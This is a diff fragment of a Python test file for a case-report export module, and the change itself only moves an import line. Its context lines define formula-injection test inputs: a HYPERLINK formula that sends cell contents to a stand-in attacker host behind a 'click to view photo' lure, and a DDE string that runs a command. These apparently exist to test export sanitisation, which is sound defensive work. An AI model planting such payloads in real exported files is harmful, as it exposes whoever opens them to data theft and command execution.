@@ -10,8 +10,8 @@ from datetime import date, datetime, timezone
 import openpyxl
 
 from bot.bootstrap import App
-from services.reports.statistics import Column, Report, Table, export_cases, to_csv, to_xlsx
 from cases.lifecycle import Actor, Case
+from services.reports.statistics import Column, Report, Table, export_cases, to_csv, to_xlsx
 
 FORMULA = '=HYPERLINK("http://evil.invalid/?"&J2&K2,"点此查看照片")'
 HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
